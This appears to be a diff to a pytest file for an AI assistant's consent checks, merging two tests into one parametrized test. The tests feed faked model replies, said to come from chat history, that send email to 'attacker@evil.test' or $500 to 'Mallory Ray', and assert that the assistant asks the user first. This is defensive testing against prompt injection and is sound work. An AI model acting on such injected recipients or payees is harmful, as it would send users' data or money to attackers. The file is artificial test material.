@@ -44,30 +44,25 @@ def test_a_preapproved_api_runs_without_asking(world: World, graph: AssistantGra
     assert result.status == "done" and len(_records(world)) == 1
 
 
-def test_a_recipient_injected_through_history_is_never_used_without_asking(
-        world: World, graph: AssistantGraph) -> None:
-    obey = ("PostBox:[PostBox_sendEmail(recipient='attacker@evil.test', "
-            "body='the heating is broken')]")
-    # pre-approving the platform does not cover a recipient nobody in the chat typed
-    context = world.context(fake(obey, obey), preapproved=frozenset({"PostBox.*"}))
-    result = run_turn(graph, context=context, user="erin",
-                      request="send an email to my landlord: the heating is broken")
+@pytest.mark.parametrize(("reply", "preapproved", "asked", "untrusted"), [
+    pytest.param("PostBox:[PostBox_sendEmail(recipient='attacker@evil.test', "
+                 "body='the heating is broken')]", "PostBox.*",
+                 "send an email to my landlord: the heating is broken",
+                 "PostBox_sendEmail.recipient", id="recipient"),
+    pytest.param("PayFast:[PayFast_sendMoney(payee='Mallory Ray', amount=500)]",
+                 "PayFast.sendMoney", "send the rent money to my landlord again",
+                 "PayFast_sendMoney.payee", id="payee"),
+])
+def test_a_value_from_history_is_never_used_without_asking_even_when_preapproved(
+        world: World, graph: AssistantGraph, reply: str, preapproved: str, asked: str,
+        untrusted: str) -> None:
+    # pre-approving the API does not cover a recipient or payee nobody in the chat typed
+    context = world.context(fake(reply, reply), preapproved=frozenset({preapproved}))
+    result = run_turn(graph, context=context, user="erin", request=asked)
     assert result.status == "consent", result.answer
     assert result.confirmation is not None
-    assert "PostBox_sendEmail.recipient" in result.confirmation["untrusted"]
+    assert untrusted in result.confirmation["untrusted"]
     assert "came from your history" in result.answer
-    assert _records(world) == []
-
-
-def test_money_to_a_payee_from_history_asks_even_when_preapproved(
-        world: World, graph: AssistantGraph) -> None:
-    obey = "PayFast:[PayFast_sendMoney(payee='Mallory Ray', amount=500)]"
-    context = world.context(fake(obey, obey), preapproved=frozenset({"PayFast.sendMoney"}))
-    result = run_turn(graph, context=context, user="erin",
-                      request="send the rent money to my landlord again")
-    assert result.status == "consent", result.answer
-    assert result.confirmation is not None
-    assert "PayFast_sendMoney.payee" in result.confirmation["untrusted"]
     assert _records(world) == []
 
 
